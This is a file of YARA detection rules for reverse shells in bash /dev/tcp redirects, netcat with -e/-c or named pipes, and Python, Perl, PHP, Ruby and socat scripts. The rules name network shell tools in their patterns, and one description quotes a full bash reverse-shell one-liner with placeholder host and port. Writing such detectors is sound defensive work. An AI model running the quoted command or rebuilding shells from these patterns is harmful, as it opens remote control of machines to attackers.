// Reverse shells: a shell whose input and output are a network connection to an attacker.
// Each rule needs the connection and the interactive shell together, so documentation that
// merely mentions /dev/tcp or a netcat flag does not match.

rule Reverse_Shell_Bash_Dev_Tcp
{
    meta:
        title = "Reverse shell: interactive shell redirected to /dev/tcp"
        description = "A shell started with its input and output connected to a remote host through bash's /dev/tcp (e.g. `bash -i >& /dev/tcp/HOST/PORT 0>&1`)."
        severity = "critical"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
    strings:
        $redirect = /(ba|z|k|da)?sh\s+-i\s*[<>0-9&]*\s*\/dev\/(tcp|udp)\/[^\/\s"']+\/[0-9]{1,5}/
        $exec = /exec\s+[0-9]+\s*<>\s*\/dev\/(tcp|udp)\/[^\/\s"']+\/[0-9]{1,5}/
        $dup = /\/dev\/(tcp|udp)\/[^\/\s"']+\/[0-9]{1,5}\s*0\s*>\s*&\s*1/
    condition:
        any of them
}

rule Reverse_Shell_Netcat_Exec
{
    meta:
        title = "Reverse shell: netcat running a shell"
        description = "netcat (nc, ncat, netcat) connecting to a host and handing it a shell with -e/-c, or a named pipe looping a shell through nc."
        severity = "critical"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
    strings:
        $nc_e = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s+(-[a-zA-Z]+\s+)*[^\s|;&]+\s+[0-9]{1,5}\s+(-[a-zA-Z]+\s+)*-[ec]\s*["']?\/bin\/(ba|z|k|da)?sh/
        $nc_e_first = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s+(-[a-zA-Z]+\s+)*-[ec]\s*["']?\/bin\/(ba|z|k|da)?sh["']?\s+[^\s|;&]+\s+[0-9]{1,5}/
        $fifo = /mkfifo\s+\S+\s*;\s*cat\s+\S+\s*\|\s*\/bin\/(ba|z|k|da)?sh\s+-i\s*2\s*>\s*&\s*1\s*\|\s*(nc|ncat|netcat)\s/
    condition:
        any of them
}

rule Reverse_Shell_Scripting_Language
{
    meta:
        title = "Reverse shell in Python, Perl, PHP or Ruby"
        description = "A script that connects a socket to a remote host and runs an interactive shell over it."
        severity = "critical"
        reference = "https://attack.mitre.org/techniques/T1059/"
    strings:
        $py_dup = /os\.dup2\(\s*[a-z_]+\.fileno\(\)\s*,\s*[012]\s*\)/
        $py_shell = /(subprocess\.(call|Popen|run)|pty\.spawn|os\.exec[lv]p?e?)\(\s*\[?\s*["']\/bin\/(ba|z|k|da)?sh["']/
        $perl_socket = /socket\(\s*S\s*,\s*PF_INET\s*,\s*SOCK_STREAM/
        $perl_exec = /exec\(\s*["']\/bin\/(ba|z|k|da)?sh\s+-i["']\s*\)/
        $php_sock = /fsockopen\(\s*["'][^"']+["']\s*,\s*[0-9]{1,5}\s*\)/
        $php_exec = /(exec|shell_exec|system|passthru|popen|proc_open)\(\s*["']\/bin\/(ba|z|k|da)?sh\s+-i\s*<&\s*[0-9]/
        $ruby = /TCPSocket\.(new|open)\([^)]*\)\.to_i\s*;\s*exec\s+sprintf\(\s*["']\/bin\/(ba|z|k|da)?sh\s+-i/
        $socat = /socat\s+[^\n]*exec:["']?(\/bin\/)?(ba|z|k|da)?sh\s+-li?["']?\s*,\s*pty/ nocase
    condition:
        ($py_dup and $py_shell) or ($perl_socket and $perl_exec) or ($php_sock and $php_exec) or $ruby or $socat
}
